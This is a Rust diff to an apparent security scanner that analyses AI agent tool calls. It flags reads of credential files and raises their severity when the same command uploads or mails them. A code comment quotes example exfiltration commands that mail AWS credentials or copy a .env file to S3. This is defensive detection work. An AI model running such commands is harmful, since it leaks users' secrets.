@@ -74,6 +74,12 @@ pub fn analyse_in(call: &ToolCall, tax: &Taxonomy, ctx: &CallCtx) -> CallAnalysi
                 let full = super::path::resolve(path, cwd);
                 a.hits
                     .extend(super::persist::write_hits(&full, content, &call.tool, tax));
+                let here = CallCtx {
+                    cwd: cwd.map(str::to_string),
+                    remotes: ctx.remotes.clone(),
+                };
+                a.hits
+                    .extend(super::written::hits(&full, content, &call.tool, tax, &here));
                 if full.starts_with("/etc/") {
                     a.hits.push(Hit::new(
                         id::CMD_PRIVESC,
@@ -161,7 +167,13 @@ fn fetch(url: &str, tool: &str, tax: &Taxonomy, a: &mut CallAnalysis) {
     });
 }
 
-fn shell(text: &str, script: &Script, tax: &Taxonomy, ctx: &CallCtx, a: &mut CallAnalysis) {
+pub(super) fn shell(
+    text: &str,
+    script: &Script,
+    tax: &Taxonomy,
+    ctx: &CallCtx,
+    a: &mut CallAnalysis,
+) {
     let ev = super::exec::short(text);
     a.hits.extend(script_hits(script, text, tax));
     let mut recon: Vec<String> = Vec::new();
@@ -169,8 +181,15 @@ fn shell(text: &str, script: &Script, tax: &Taxonomy, ctx: &CallCtx, a: &mut Cal
         let name = cmd.name();
         let shown = cmd.display();
         let note = decoded_note(cmd);
-        // EXF-TRACE-003: credential reads
-        for p in read_paths(cmd, tax) {
+        // EXF-TRACE-003: credential reads (high when the same command uploads them)
+        let uploads = tax
+            .uploaders
+            .iter()
+            .find(|w| super::access::command_matches(cmd, w))
+            .map(|w| w.join(" "));
+        let mut paths = read_paths(cmd, tax);
+        paths.extend(super::access::xargs_paths(script, cmd, tax));
+        for p in paths {
             if let Some(g) = tax.credential_at(&p, cmd.cwd.as_deref()) {
                 let full = super::path::resolve(&p, cmd.cwd.as_deref());
                 let what = if tax.wallets.matches(&full).is_some() {
@@ -178,25 +197,24 @@ fn shell(text: &str, script: &Script, tax: &Taxonomy, ctx: &CallCtx, a: &mut Cal
                 } else {
                     "credential file"
                 };
-                a.hits.push(
-                    Hit::new(
-                        id::EXF_CRED_READ,
-                        format!("{shown} reads {what} {p} ({g}){note}"),
-                        &ev,
-                    )
-                    .key(&format!("read {}", normalise_path(&full))),
-                );
+                let hit = Hit::new(
+                    id::EXF_CRED_READ,
+                    format!("{shown} reads {what} {p} ({g}){note}"),
+                    &ev,
+                )
+                .key(&format!("read {}", normalise_path(&full)));
+                // `mail x@y < ~/.aws/credentials`, `aws s3 cp .env s3://…`: read and sent
+                a.hits.push(sent_by(hit, uploads.as_deref()));
             } else if tax.sensitive_dir(&super::path::resolve(&p, cmd.cwd.as_deref()))
                 && tax.folder_readers.contains(&name)
             {
-                a.hits.push(
-                    Hit::new(
-                        id::EXF_CRED_READ,
-                        format!("{shown} reads credential folder {p}{note}"),
-                        &ev,
-                    )
-                    .key(&format!("read {}", normalise_path(&p))),
-                );
+                let hit = Hit::new(
+                    id::EXF_CRED_READ,
+                    format!("{shown} reads credential folder {p}{note}"),
+                    &ev,
+                )
+                .key(&format!("read {}", normalise_path(&p)));
+                a.hits.push(sent_by(hit, uploads.as_deref()));
             }
         }
         if let Some(words) =
@@ -211,6 +229,8 @@ fn shell(text: &str, script: &Script, tax: &Taxonomy, ctx: &CallCtx, a: &mut Cal
                 .key(&format!("credential command {words}")),
             );
         }
+        // EXF-TRACE-001: a file server handing out the home folder
+        a.hits.extend(super::serve::exposed(cmd, tax, &ev));
         // ENV-TRACE-001
         if let Some(h) = env_hit(cmd, script, tax, &ev) {
             a.hits.push(h);
@@ -377,6 +397,19 @@ fn shell(text: &str, script: &Script, tax: &Taxonomy, ctx: &CallCtx, a: &mut Cal
             }
             HostClass::Loopback => {}
         }
+    }
+}
+
+/// A credential read by a command that uploads or mails what it reads: high, and egress.
+fn sent_by(hit: Hit, uploader: Option<&str>) -> Hit {
+    match uploader {
+        Some(u) => Hit {
+            message: format!("{} and sends it ({u})", hit.message),
+            ..hit
+        }
+        .severity(Severity::High)
+        .egress(true),
+        None => hit,
     }
 }
 
